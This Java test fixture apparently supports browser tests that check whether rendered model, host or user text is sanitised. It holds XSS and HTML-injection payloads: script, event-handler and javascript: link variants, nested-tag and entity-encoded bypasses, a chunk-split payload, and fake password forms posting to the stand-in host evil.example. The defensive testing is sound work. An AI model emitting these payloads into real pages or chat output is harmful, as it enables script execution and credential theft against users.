package org.jouleboard;

import java.util.List;

/**
 * Hostile text as a model (or a host, or a user) could send it. Each one that could run script sets
 * {@code window.__pwned}, so a browser test can tell whether anything ran.
 */
public final class Payloads {

    /** Marks what a payload's script would set. */
    public static final String PWNED = "window.__pwned=1";

    public static final List<String> ALL = List.of(
            "<script>" + PWNED + "</script>",
            "<img src=x onerror=\"" + PWNED + "\">",
            "<img src=\"http://evil.example/pixel.png\">",
            "<svg onload=\"" + PWNED + "\"><circle r=\"40\"/></svg>",
            "<iframe src=\"javascript:" + PWNED + "\"></iframe>",
            "<form action=\"http://evil.example/steal\" method=\"post\"><input name=\"password\" type=\"password\">"
                    + "<button>Log in</button></form>",
            "<vaadin-login-form action=\"http://evil.example/steal\" opened></vaadin-login-form>",
            "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:red\">covered</div>",
            "<a href=\"javascript:" + PWNED + "\">html link</a>",
            "[md link](javascript:" + PWNED + ")",
            "![tracker](http://evil.example/x.png)",
            "&lt;script&gt;" + PWNED + "&lt;/script&gt;",
            "<a href=\"&#106;avascript:" + PWNED + "\">entity link</a>",
            "[entity md link](&#106;avascript:" + PWNED + ")",
            "<details open ontoggle=\"" + PWNED + "\">x</details>",
            "<body onload=\"" + PWNED + "\">",
            "<object data=\"http://evil.example/x.swf\"></object><embed src=\"http://evil.example/x.swf\">",
            "<link rel=\"stylesheet\" href=\"http://evil.example/x.css\"><style>body{display:none}</style>",
            "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example\"><base href=\"http://evil.example/\">",
            "<math><mtext><table><mglyph><style><img src=x onerror=\"" + PWNED + "\">",
            "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "<input autofocus onfocus=\"" + PWNED + "\">",
            "<scr<script>ipt>" + PWNED + "</script>",
            "<a href=\"http://ok.example/\" onclick=\"" + PWNED + "\" style=\"color:red\" id=\"x\" class=\"y\">ok</a>",
            "<javascript:" + PWNED + ">",
            "<template><img src=x onerror=\"" + PWNED + "\"></template>",
            "<noscript><p title=\"</noscript><img src=x onerror=" + PWNED + ">\">",
            "[vb](vbscript:msgbox(1)) [file](file:///etc/passwd)");

    /** A tag split across two streamed chunks: neither half alone looks like markup. */
    public static final List<String> SPLIT_FORM = List.of(
            "Here: <for",
            "m action=\"http://evil.example/steal\"><input name=\"password\"></form> and <img sr",
            "c=x onerror=\"" + PWNED + "\">");

    private Payloads() {}

    /** Every payload in one Markdown document, one paragraph each. */
    public static String document() {
        return String.join("\n\n", ALL);
    }
}
